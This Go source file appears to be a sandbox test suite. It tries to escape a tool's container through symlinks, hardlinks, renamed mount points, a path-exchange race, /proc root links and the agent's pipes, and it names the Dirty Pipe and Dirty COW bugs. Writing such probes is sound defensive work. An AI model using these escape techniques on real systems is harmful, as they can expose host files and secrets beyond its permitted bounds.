package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// Tricks with names. What the host does with the tool's files is seen on the
// host; see the held attempt workspace-races too.
var linkAttempts = []attempt{
	{name: "symlink-to-host", opens: "a link in the workspace leads to the host", try: symlinks},
	{name: "hardlink-to-image", opens: "the tool keeps a name for a file of the image", try: hardlinks},
	{name: "rename-over-mounts", opens: "the tool moves a mount point away", try: renames},
	{name: "race-through-links", opens: "a path that changes while it is walked leads out", try: racePaths},
	{name: "magic-links", opens: "a link of /proc leads out of the root", try: magicLinks},
	{name: "dirty-pipe", opens: "the tool writes to the image's pages by a pipe (CVE-2022-0847)", try: dirtyPipe},
	{name: "dirty-cow", opens: "the tool writes to the image's pages by a race (CVE-2016-5195)", try: dirtyCow},
	{name: "fifo-to-agent", opens: "the tool finds the pipe between agent and host by a name", try: fifos},
}

func symlinks(b bait) outcome {
	var outcomes []outcome
	for i, dir := range writablePlaces {
		for j, target := range []string{b.marker, strings.Repeat("../", 64) + b.marker, "/proc/1/root" + b.marker, "/proc/self/fd/0/../../.." + b.marker} {
			link := filepath.Join(dir, fmt.Sprintf("link-%d-%d", i, j))
			if err := os.Symlink(target, link); err != nil {
				outcomes = append(outcomes, denied(err))
				continue
			}
			outcomes = append(outcomes, readsSecret(link, b)) // the link stays, for who cleans up
		}
	}
	return first(outcomes...)
}

func hardlinks(bait) outcome {
	return each([]string{"/tool", "/.toolfleet/agent", agent + "/exe", "/proc/self/exe"}, func(path string) outcome {
		link := "/tmp/hard"
		defer os.Remove(link) //nolint:errcheck // goes with the sandbox
		return first(
			judge(unix.Linkat(unix.AT_FDCWD, path, unix.AT_FDCWD, link, unix.AT_SYMLINK_FOLLOW), "linked "+path),
			judge(unix.Linkat(unix.AT_FDCWD, path, unix.AT_FDCWD, "/hard", unix.AT_SYMLINK_FOLLOW), "linked "+path),
		)
	})
}

func renames(bait) outcome {
	return each([]string{"/workspace", "/tmp", "/proc", "/dev/shm", "/dev/null"}, func(path string) outcome {
		return judge(os.Rename(path, path+"-moved"), "moved "+path)
	})
}

// racePaths exchanges a directory for a link while another thread walks the
// path upwards, some thousand times.
func racePaths(b bait) outcome {
	base, err := os.MkdirTemp("/workspace", "race-")
	if err != nil {
		return open("cannot tell: %v", err)
	}
	dir, link := filepath.Join(base, "d"), filepath.Join(base, "l")
	if err := errors.Join(os.MkdirAll(filepath.Join(dir, "a/b/c"), 0o700), os.Symlink("/proc/1/root", link)); err != nil {
		return open("cannot tell: %v", err)
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
				_ = unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
			}
		}
	}()
	result := denied(errors.New("every walk stayed inside"))
	for range 2000 {
		result = first(result, readsSecret(dir+"/a/b/c/"+strings.Repeat("../", 64)+b.marker, b))
		result = first(result, readsSecret(dir+b.marker, b))
	}
	close(stop)
	<-done
	return result
}

func magicLinks(b bait) outcome {
	var outcomes []outcome
	for _, pid := range append(pids(), "self", "thread-self") {
		for _, name := range []string{"/root", "/cwd", "/exe"} {
			path := "/proc/" + pid + name
			outcomes = append(outcomes, readsSecret(path+b.marker, b), readsSecret(path+"/"+strings.Repeat("../", 64)+b.marker, b))
		}
	}
	return first(outcomes...)
}

// fifos: the host's end of the agent's pipes has a name on the host, not here.
func fifos(bait) outcome {
	return each([]string{agent + "/fd/0", agent + "/fd/1", agent + "/fd/2"}, func(path string) outcome {
		name, err := os.Readlink(path)
		if err != nil {
			return denied(err)
		}
		return first(writable(name), readable(name))
	})
}
